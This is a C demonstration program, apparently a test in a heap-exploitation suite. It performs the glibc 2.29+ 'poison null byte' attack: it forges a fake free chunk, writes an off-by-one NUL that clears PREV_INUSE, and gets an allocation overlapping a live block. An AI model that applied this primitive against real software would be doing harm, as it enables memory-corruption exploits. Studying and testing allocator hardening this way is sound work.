/* tech-poison-null-byte (the glibc 2.29+ form): a single NUL byte written
   past the end of block PREV clears PREV_INUSE in VICTIM's size (0x501
   becomes 0x500), and PREV's last word, VICTIM's prev_size, is set to
   reach a fake free chunk inside PREV.  Since 2.29 glibc checks the fake
   chunk's size against prev_size and its list links, so the fake chunk
   is spliced between two blocks the attacker controls (their fd/bk point
   back at it).  Freeing VICTIM merges it backwards over the rest of PREV.
   Goal: a new allocation overlaps the live block PREV.  */

#include "tech-support.h"

int
main (void)
{
  tech_begin ("poison null byte");
  size_t *x = tech_keep (malloc (0x18));
  size_t *y = tech_keep (malloc (0x18));
  char *prev = tech_keep (malloc (0x4f8));   /* chunk 0x500, usable 0x4f8 */
  char *victim = tech_keep (malloc (0x4f0)); /* chunk 0x500, size field 0x501 */
  void *guard = tech_keep (malloc (0x10));
  tech_require_adjacent (prev, victim, 0x500);

  /* The fake chunk: PREV's user data, up to VICTIM.  */
  struct tech_chunk *fake = (struct tech_chunk *) prev;
  struct tech_chunk *cx = tech_chunk_of (x), *cy = tech_chunk_of (y);
  fake->size = 0x4f0;
  fake->fd = cx;
  fake->bk = cy;
  fake->fd_nextsize = NULL;
  cx->bk = fake; /* x's and y's data: fd->bk and bk->fd */
  cy->fd = fake;

  /* PREV's last word is VICTIM's prev_size; then the off-by-one NUL.  */
  *(size_t *) (prev + 0x4f0) = 0x4f0;
  prev[0x4f8] = '\0';
  tst_info ("freeing %p after the NUL byte cleared its PREV_INUSE", victim);
  free (tst_opaque_ptr (victim));

  char *big = tech_keep (malloc (0x9e0));
  tst_info ("malloc (0x9e0) returned %p; PREV is %p (0x4f8 bytes)", big,
            prev);
  bool overlap = tech_overlap (big, 0x9e0, prev, 0x4f8);
  free (guard);
  tech_result (overlap, "the new block %p overlaps the live block %p", big,
               prev);
}
